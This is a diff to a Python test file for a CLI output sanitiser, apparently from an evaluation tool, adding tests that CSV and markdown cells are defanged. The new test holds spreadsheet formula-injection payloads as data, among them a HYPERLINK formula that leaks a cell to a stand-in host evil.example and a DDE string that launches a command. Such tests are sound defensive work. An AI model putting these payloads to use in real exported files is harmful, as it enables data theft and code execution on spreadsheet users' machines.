@@ -4,7 +4,13 @@ from __future__ import annotations
 
 import json
 
-from inspect_gaia._cli._sanitise import json_text, markdown_cell, markdown_text, printable
+from inspect_gaia._cli._sanitise import (
+    csv_cell,
+    json_text,
+    markdown_cell,
+    markdown_text,
+    printable,
+)
 
 
 def test_control_characters_are_written_as_escapes() -> None:
@@ -17,7 +23,7 @@ def test_control_characters_are_written_as_escapes() -> None:
 def test_a_markdown_cell_keeps_to_its_row() -> None:
     cell = markdown_cell("41\n# h\n![i](https://t.example/p.png) <b>&amp;</b> a|b \\ [x]")
     assert cell == (
-        "41<br># h<br>!\\[i\\](https://t.example/p.png) &lt;b&gt;&amp;amp;&lt;/b&gt; a\\|b \\\\ [x]"
+        "41<br># h<br>!\\[i\\](https:\u200b//t.example/p.png) &lt;b&gt;&amp;amp;&lt;/b&gt; a\\|b \\\\ [x]"
     )
     assert "\n" not in cell
 
@@ -33,3 +39,16 @@ def test_json_keeps_the_value_and_escapes_what_a_terminal_obeys() -> None:
     safe = json_text(document)
     assert "\x9b" not in safe and "\u202e" not in safe and "\x1b" not in safe
     assert json.loads(safe) == json.loads(document)
+
+
+def test_a_csv_cell_is_never_a_formula_and_a_markdown_cell_never_a_bare_link() -> None:
+    formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)"]
+    assert [csv_cell(f) for f in formulas] == ["'" + f for f in formulas]
+    assert csv_cell("-2+3") == "'-2+3" and csv_cell("\tx") == "'\tx"
+    # numbers, signed or not, stay numbers
+    assert [csv_cell(n) for n in ("-0.5", "+1", "-12%", "1,234", "-3e5", "-", "41")] == [
+        "-0.5", "+1", "-12%", "1,234", "-3e5", "-", "41"
+    ]  # fmt: skip
+    cell = markdown_cell("see https://evil.example/x or www.evil.example")
+    assert "://" not in cell and "www." not in cell
+    assert cell.replace("\u200b", "") == "see https://evil.example/x or www.evil.example"
